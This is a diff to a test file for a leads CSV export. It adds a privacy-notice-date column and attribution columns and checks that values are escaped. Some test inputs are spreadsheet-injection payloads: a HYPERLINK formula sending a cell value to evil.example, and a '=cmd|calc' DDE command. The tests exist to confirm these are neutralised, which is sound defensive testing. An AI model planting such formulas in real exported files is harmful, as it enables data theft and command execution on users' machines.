@@ -28,9 +28,9 @@ describe('the leads CSV export', () => {
     ]);
     expect(csv).toBe(
       [
-        'id,form,state,created_at,page_url,attempts,reason,last_error,Company,Description,LEADCF11',
-        'a,schedule-a-call,pending,2026-11-02T09:30:00.000Z,"http://localhost:3000/schedule-a-call?a=1,2",2,,HTTP 503,,"Two devs, ""senior""\nstart May",React; Go',
-        'b,schedule-a-call,pending,2026-11-02T09:30:00.000Z,"http://localhost:3000/schedule-a-call?a=1,2",2,,HTTP 503,Acme,,',
+        'id,form,state,created_at,page_url,attempts,reason,last_error,privacy_notice_date,Company,Description,LEADCF11',
+        'a,schedule-a-call,pending,2026-11-02T09:30:00.000Z,"http://localhost:3000/schedule-a-call?a=1,2",2,,HTTP 503,,,"Two devs, ""senior""\nstart May",React; Go',
+        'b,schedule-a-call,pending,2026-11-02T09:30:00.000Z,"http://localhost:3000/schedule-a-call?a=1,2",2,,HTTP 503,,Acme,,',
         '',
       ].join('\n'),
     );
@@ -47,5 +47,25 @@ describe('the leads CSV export', () => {
     const [header] = leadsCsv([lead('a', { [name]: 'x' })]).split('\n');
     expect(header).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""Open"")"`);
     expect(header).not.toMatch(/(^|,)"?=/);
+  });
+
+  it('has a column for each part of the attribution any lead has, and the privacy notice’s date, escaped the same', () => {
+    const csv = leadsCsv([
+      {
+        ...lead('a', { Company: 'Acme' }),
+        privacyNoticeDate: '2025-01-02',
+        attribution: {
+          first: { landing_page: '/?utm_source=news,letter', utm_source: 'news,letter', gclid: '=cmd|calc' },
+          latest: { utm_campaign: 'q1' },
+        },
+      },
+      lead('b', { Company: 'Beta' }),
+    ]);
+    const [header, a, b] = csv.split('\n');
+    expect(header).toBe(
+      'id,form,state,created_at,page_url,attempts,reason,last_error,privacy_notice_date,first_landing_page,first_utm_source,first_gclid,latest_utm_campaign,Company',
+    );
+    expect(a).toMatch(/,HTTP 503,2025-01-02,"\/\?utm_source=news,letter","news,letter",'=cmd\|calc,q1,Acme$/);
+    expect(b).toMatch(/,HTTP 503,,,,,,Beta$/);
   });
 });
